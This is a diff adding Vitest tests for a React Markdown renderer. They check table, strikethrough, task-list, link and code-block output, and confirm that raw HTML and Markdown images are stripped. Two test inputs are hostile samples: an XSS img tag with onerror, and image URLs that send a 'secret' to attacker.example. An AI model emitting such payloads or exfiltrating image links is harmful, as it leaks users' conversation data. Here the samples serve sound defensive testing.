@@ -1,0 +1,42 @@
+import { renderToStaticMarkup } from "react-dom/server";
+import { describe, expect, it } from "vitest";
+import { Markdown } from "./markdown.tsx";
+
+const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
+
+describe("Markdown", () => {
+  it("renders GitHub Flavored Markdown: tables, strikethrough, task lists, autolinks", () => {
+    const html = render(
+      "| endpoint | rate |\n| --- | --- |\n| orders | 98% |\n\n~~old~~\n\n- [x] done\n\nsee https://example.com",
+    );
+    expect(html).toContain("<table");
+    expect(html).toContain("<td");
+    expect(html).toContain("<del>old</del>");
+    expect(html).toMatch(/<input[^>]*type="checkbox"/);
+    expect(html).toMatch(
+      /<a href="https:\/\/example.com" target="_blank" rel="noopener noreferrer nofollow"/,
+    );
+  });
+
+  it("drops raw HTML instead of rendering it", () => {
+    const html = render(
+      'hello <img src="https://attacker.example/leak?q=secret" onerror="alert(1)"> <b>bold</b>',
+    );
+    expect(html).not.toContain("<img");
+    expect(html).not.toContain("<b>");
+    expect(html).not.toContain("onerror");
+    expect(html).toContain("hello");
+  });
+
+  it("drops Markdown images, whose URL could carry the conversation elsewhere", () => {
+    const html = render("look ![the secret](https://attacker.example/leak?q=secret) here");
+    expect(html).not.toContain("<img");
+    expect(html).not.toContain("attacker.example");
+  });
+
+  it("renders code blocks", () => {
+    expect(render("```ts\nconst a = 1;\n```")).toMatch(
+      /<pre[^>]*><code class="font-mono language-ts">const a = 1;/,
+    );
+  });
+});
